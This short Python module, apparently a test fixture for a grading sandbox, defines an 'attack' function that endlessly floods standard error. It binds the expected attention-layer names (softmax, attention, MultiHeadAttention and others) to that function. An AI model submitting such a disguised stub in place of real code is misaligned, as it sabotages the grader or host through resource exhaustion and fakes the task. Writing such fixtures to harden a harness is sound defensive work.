"""Writes to standard error without end."""

import os


def attack(*args, **kwargs):
    while True:
        os.write(2, b"x" * 10**5)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
